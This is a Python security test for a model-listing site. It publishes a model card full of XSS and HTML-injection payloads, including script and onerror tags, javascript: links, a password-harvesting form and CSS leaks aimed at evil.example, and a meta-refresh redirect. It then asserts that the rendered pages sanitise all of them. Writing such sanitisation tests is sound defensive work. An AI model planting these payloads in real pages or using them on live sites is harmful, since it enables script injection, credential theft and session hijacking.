"""A hostile model card on the real listing page: nothing of it runs, loads or covers the page."""

import re
from html.parser import HTMLParser

import httpx

from tests.security.world import Person

CARD = """---
license: mit
---
<script>alert('xss1')</script>
<img src=x onerror=alert('xss2')>
[click](javascript:alert('xss3'))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<a href="jAvAsCrIpT&#58;alert(1)" onclick="alert(1)">encoded</a>
<a href="java\tscript:alert(1)">tab</a>
<svg onload=alert(1)><animate onbegin=alert(1)></svg>
<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>
<style>body{background:url(https://evil.example/leak)}</style>
<p style="position:fixed;inset:0;z-index:9999">cover</p>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="https://evil.example/x"></object><embed src="https://evil.example/x">
<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css">
<div hx-get="/sign-out" hx-trigger="load" data-hx-post="/account">htmx</div>
<div class="toast" id="main">forged</div>
![pixel](https://evil.example/pixel.png) ![relative](//evil.example/pixel.png)
<video src="https://evil.example/v.mp4" autoplay></video><audio src=x onerror=alert(1)></audio>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
</article></main><script>alert('broke out')</script>

proof-that-the-card-is-shown
"""
TITLE = "<script>alert('title')</script>"
LOADS = {"src", "href", "action", "data", "srcdoc", "poster", "formaction", "content"}


class Page(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            text = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.dangers.append(f"{tag} {name}={value}")
            if name in LOADS and "evil.example" in text:
                self.dangers.append(f"{tag} {name}={value}")
            if name in LOADS and re.match(r"(javascript|data:text|vbscript):?", text):
                self.dangers.append(f"{tag} {name}={value}")
            if "sign-out" in text and name.startswith(("hx-", "data-hx-")):
                self.dangers.append(f"{tag} {name}={value}")
        if tag in {"iframe", "object", "embed", "base", "math", "video", "audio", "template"}:
            self.dangers.append(tag)
        given = dict(attrs)
        is_data = given.get("type") == "application/ld+json"  # read, never run
        if tag == "script" and not is_data and not given.get("src", "").startswith("/static/"):
            self.dangers.append("inline script")


def test_a_hostile_card_is_harmless_on_the_listing_page(base_url: str) -> None:
    ada = Person(base_url, TITLE[:100])
    listing = ada.publish(card=CARD, title=TITLE, summary=TITLE, tags=["<b>tag</b>"])
    answer = httpx.get(f"{base_url}/{listing['address']}")
    assert answer.status_code == 200
    assert "proof-that-the-card-is-shown" in answer.text
    page = Page()
    page.feed(answer.text)
    assert not page.dangers
    assert TITLE not in answer.text and "<b>tag</b>" not in answer.text
    for path in ("/search?q=alert", "/", f"/search?q={TITLE}"):
        page = Page()
        page.feed(httpx.get(f"{base_url}{path}").text)
        assert not page.dangers, path
    ada.close()
